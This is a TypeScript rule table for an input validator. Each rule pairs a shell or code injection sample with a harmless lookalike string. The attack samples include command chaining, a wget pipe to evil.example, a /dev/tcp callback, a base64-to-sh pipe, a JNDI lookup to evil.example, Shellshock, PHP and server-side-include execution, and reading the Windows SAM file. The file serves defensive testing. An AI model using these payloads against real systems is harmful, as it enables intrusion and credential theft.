import type { Rule } from "./rule.ts";

/** Commands of shells, and code of the languages that run them (VAL-08). */
export const COMMAND_RULES = {
  "command.chain": {
    title: "a command behind ; && or ||",
    attack: "x; cat /etc/motd",
    benign: "Boil; cut the leaves; eat.",
  },
  "command.pipe": {
    title: "a command behind |",
    attack: "x | wget evil.example",
    benign: "| id | name | date |",
  },
  "command.background": {
    title: "a command behind &",
    attack: "x & ping -n 9 localhost",
    benign: "salt & sort of pepper",
  },
  "command.newline": {
    title: "a command on a line of its own",
    attack: "x\nid\n",
    benign: "milk\neggs\nfind the good flour",
  },
  "command.substitution": {
    title: "$(…) with a command",
    attack: "x$(id)",
    benign: "costs $(12) or so",
  },
  "command.backtick": {
    title: "a command in backticks that are no quotation",
    attack: "x`id`",
    benign: "Run `ls -la` to see the files.",
  },
  "command.whole": {
    title: "a value that is a command with a way into the system",
    attack: "cat /etc/motd",
    benign: "cat food for two weeks",
  },
  "command.split-word": {
    title: "a command hidden by quotes or empty expansions",
    attack: ";w'h'o'am'i",
    benign: "rock 'n' roll; who's who",
  },
  "command.brace": {
    title: "a command in braces instead of spaces",
    attack: ";{cat,/etc/motd}",
    benign: "a set such as {cat, dog}",
  },
  "command.glob": {
    title: "a path hidden by wildcards",
    attack: "/???/c?t",
    benign: "What is this???/that",
  },
  "command.variable-trick": {
    title: "spaces and letters out of variables",
    attack: "x;ls\u0024{IFS}-l",
    benign: "if $IFSomething happens",
  },
  "command.here-string": {
    title: "a text handed to a program by <<<",
    attack: "bash<<<$(x)",
    benign: "<<< back to the list",
  },
  "command.decoded-script": {
    title: "a script that is decoded first",
    attack: "echo aWQ= | base64 -d | sh",
    benign: "base64 decoding is simple",
  },
  "command.interpreter": {
    title: "a program handed to an interpreter",
    attack: "perl -e 'print 1'",
    benign: "perl and python compared",
  },
  "command.option": {
    title: "an option that runs a program, or reads or writes a file",
    attack: "menu.tar --use-compress-program=id",
    benign: "ask for the menu --please, and a table",
  },
  "command.reverse-shell": {
    title: "a shell that calls back",
    attack: "x >/dev/tcp/10.0.0.1/99",
    benign: "the tcp port of the device",
  },
  "command.run-function": {
    title: "a function that runs a command",
    attack: ";system('id')",
    benign: "the nervous system (see there)",
  },
  "command.code": {
    title: "code of a server page",
    attack: "<?php go($_GET['x']); ?>",
    benign: "a page in php",
  },
  "command.server-include": {
    title: "a server-side include",
    attack: '<!--#exec cmd="id" -->',
    benign: "<!-- a comment -->",
  },
  "command.shellshock": {
    title: "a function that old shells ran on import",
    attack: "() { :;}; echo x",
    benign: "const f = () => { return 1; };",
  },
  "command.lookup": {
    title: "a lookup that loads code, as loggers resolved it",
    attack: "\u0024{jndi:ldap://evil.example/a}",
    benign: "Dear \u0024{name}, welcome",
  },
  "command.template": {
    title: "a template expression that is computed on the server",
    attack: "{{7*7}}",
    benign: "{{ title }} by {{ author }}",
  },
  "command.windows": {
    title: "Windows' command interpreter and its variables",
    attack: "type %SYSTEMROOT%\\repair\\SAM",
    benign: "100% windows, 50% doors",
  },
} as const satisfies Readonly<Record<string, Rule>>;
